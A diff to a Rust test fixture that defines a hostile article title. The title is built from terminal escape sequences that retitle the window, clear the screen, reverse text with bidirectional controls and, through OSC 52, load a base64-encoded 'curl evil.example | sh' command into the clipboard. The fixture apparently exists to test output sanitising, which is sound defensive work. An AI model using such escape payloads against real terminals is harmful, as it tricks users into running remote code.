@@ -5,9 +5,10 @@
 use std::path::Path;
 use std::process::{Command, Output};
 
-/// An article title that retitles the window, sets the clipboard, moves the cursor home,
-/// clears the screen (twice: ESC [ and the C1 CSI) and turns the text around.
-const TITLE: &str = "Strike\x1b]0;PWNED\x07 on\r Odesa\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07 \x1b[2J\u{9b}2J \u{202e}desrever\u{202c} \u{2067}iso\u{2069}\u{200f}\u{61c}\u{7f}";
+/// An article title that retitles the window, sets the clipboard, moves the cursor back,
+/// clears the screen (twice: ESC [ and the C1 CSI) and turns the text around. (A carriage
+/// return would end the line in a text file: a backspace moves the cursor instead.)
+const TITLE: &str = "Strike\x1b]0;PWNED\x07 on\x08 Odesa\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07 \x1b[2J\u{9b}2J \u{202e}desrever\u{202c} \u{2067}iso\u{2069}\u{200f}\u{61c}\u{7f}";
 
 fn article() -> String {
     let mut body = String::new();
